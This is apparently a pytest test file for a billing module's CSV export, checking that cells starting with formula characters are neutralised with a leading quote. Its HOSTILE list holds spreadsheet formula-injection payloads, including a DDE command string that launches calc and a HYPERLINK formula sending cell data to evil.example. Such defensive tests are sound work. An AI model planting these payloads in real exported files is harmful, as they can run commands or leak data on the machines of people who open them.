import csv
import io
from decimal import Decimal

import pytest

from app.billing.csv_cells import csv_text, neutralise_cell

pytestmark = pytest.mark.unit

HOSTILE = [
    "=cmd|'/Ccalc'!A0@example.com",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
]


@pytest.mark.parametrize("value", HOSTILE)
def test_cells_starting_with_a_formula_trigger_are_prefixed_with_a_quote(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["plain", "a=b", "1+1", "", "user@example.com", "'already quoted"])
def test_ordinary_text_is_left_alone(value):
    assert neutralise_cell(value) == value


def test_numbers_stay_numbers_even_when_negative():
    assert neutralise_cell(-1250) == -1250
    assert neutralise_cell(Decimal("-12.50")) == Decimal("-12.50")
    assert neutralise_cell(None) == ""


def test_a_csv_document_round_trips_with_every_hostile_cell_neutralised_and_no_cell_breaking_out():
    rows = [[value, 'with "quotes", commas\nand a newline', -5] for value in HOSTILE]
    text = csv_text(["=header", "b", "c"], rows)
    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed[0] == ["'=header", "b", "c"]
    assert len(parsed) == len(HOSTILE) + 1
    for value, row in zip(HOSTILE, parsed[1:], strict=True):
        assert row == ["'" + value, 'with "quotes", commas\nand a newline', "-5"]
